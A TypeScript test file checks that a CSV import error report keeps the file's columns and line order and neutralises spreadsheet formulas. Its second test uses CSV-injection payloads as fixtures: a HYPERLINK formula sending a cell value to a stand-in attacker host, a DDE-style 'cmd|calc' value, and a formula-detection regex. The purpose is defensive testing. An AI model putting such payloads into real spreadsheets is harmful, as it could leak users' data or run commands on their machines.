/**
 * The error report (/imports/<id>/errors.csv) carries the user's rejected values back into a spreadsheet: a
 * value that Excel would run as a formula must come out as text.
 */
import { describe, expect, it } from 'vitest';
import { errorReportResponse } from '../../../app/lib/ingest.server';
import { getImportForActor } from '../../../server/ingest/imports.service';
import { CsvSplitter } from '../../../server/ingest/csv';
import { makeTenant } from '../../factories/tenant';
import { useTestServices } from '../../support/db';
import { importFile, writeTmp } from './helpers';

const h = useTestServices();

function parse(text: string): string[][] {
  const rows: string[][] = [];
  const s = new CsvSplitter(',', (v) => rows.push(v));
  s.push(text.replace(/^\ufeff/, ''));
  s.end();
  return rows;
}

describe('import error report', () => {
  it("names the file's own columns throughout and keeps the file's line order", async () => {
    const t = await makeTenant(h.services);
    const header = 'Invoice,Paid,Shop,Qty,Price,Card,Phone';
    const csv = [
      header,
      'N1,2025-03-01 10:00:00,S9,1,10.00,,', // 2: unknown store (SQL)
      'N2,not a date,S1,1,10.00,,', // 3: bad date (row check)
      'N3,2025-03-01 10:00:00,S1,1,10.00,M1,', // 4: conflicting identities (SQL) with line 7
      'N4,2025-03-01 10:00:00,S1,-2,10.00,,', // 5: negative total (SQL)
      'N5,2025-03-01 10:00:00,S1,x,10.00,,', // 6: bad quantity (row check)
      'N3,2025-03-01 10:00:00,S1,1,10.00,M2,', // 7: conflicting identities (SQL)
      'N6,2025-03-01 10:00:00,S1,1,10.00,,123', // 8: bad mobile (row check)
      'N7,2025-03-01 10:00:00,S1,1,10.00,,', // 9: good
      'N8,2025-03-01 10:00:00,S2,1,10.00,,', // 10: conflicting stores (SQL) with line 11
      'N8,2025-03-01 10:00:00,S1,1,10.00,,', // 11
    ].join('\n') + '\n';
    const file = writeTmp(`columns-${t.slug}.csv`, csv);
    const { id, summary } = await importFile(h.services, t.actor, file, {
      columns: { order_no: 'Invoice', paid_at: 'Paid', store_code: 'Shop', quantity: 'Qty', unit_price: 'Price', member_no: 'Card', mobile: 'Phone' },
    });
    expect(summary).toMatchObject({ rows_read: 10, rows_rejected: 9, orders_created: 1 });
    const rows = parse(await errorReportResponse(await getImportForActor(h.services, t.actor, id))!.text());
    expect(rows[0]).toEqual(['行号 line', '列 column', '原因 reason', '说明 message', ...header.split(',')]);
    expect(rows.slice(1).map((r) => [r[0], r[1], r[2]])).toEqual([
      ['2', 'Shop', 'unknown_store'],
      ['3', 'Paid', 'invalid_paid_at'],
      ['4', 'Card / Phone', 'conflicting_lines'],
      ['5', 'Qty / Price', 'negative_total'],
      ['6', 'Qty', 'invalid_quantity'],
      ['7', 'Card / Phone', 'conflicting_lines'],
      ['8', 'Phone', 'invalid_mobile'],
      ['10', 'Shop', 'conflicting_lines'],
      ['11', 'Shop', 'conflicting_lines'],
    ]);
    // each rejected line carries its original row
    expect(rows.slice(1).map((r) => r.slice(4).join(','))).toEqual(csv.trim().split('\n').slice(1).filter((_, i) => i !== 7));
  });

  it('neutralises formulas in rejected values, headers and every other cell', async () => {
    const t = await makeTenant(h.services);
    const csv = ['订单号,支付时间,数量,单价,@备注', 'A1,2025-03-01 10:00:00,1,10.00,ok', 'A2,2025-03-01 10:00:00,=HYPERLINK("http://evil.example/?x"&A1),10.00,+cmd|calc', 'A3,not a date,1,-5.00,-1+1'].join('\n') + '\n';
    const file = writeTmp(`formula-${t.slug}.csv`, csv);
    const { id, summary } = await importFile(h.services, t.actor, file, { columns: { order_no: '订单号', paid_at: '支付时间', quantity: '数量', unit_price: '单价' } });
    expect(summary).toMatchObject({ status: 'done', rows_read: 3, rows_rejected: 2 });
    const res = errorReportResponse(await getImportForActor(h.services, t.actor, id));
    expect(res?.headers.get('content-type')).toContain('text/csv');
    const rows = parse(await res!.text());
    expect(rows[0]!.slice(4)).toEqual(['订单号', '支付时间', '数量', '单价', "'@备注"]);
    const a2 = rows.find((r) => r[4] === 'A2')!;
    expect(a2[6]).toBe(`'=HYPERLINK("http://evil.example/?x"&A1)`);
    expect(a2[8]).toBe("'+cmd|calc");
    const a3 = rows.find((r) => r[4] === 'A3')!;
    // a plain negative number is not a formula and stays a number; an expression is guarded
    expect(a3.slice(7)).toEqual(['-5.00', "'-1+1"]);
    // no cell of the report starts like a formula
    for (const r of rows) for (const c of r) expect(c).not.toMatch(/^[=+@\t\r]|^-(?![\d.])/);
  });
});
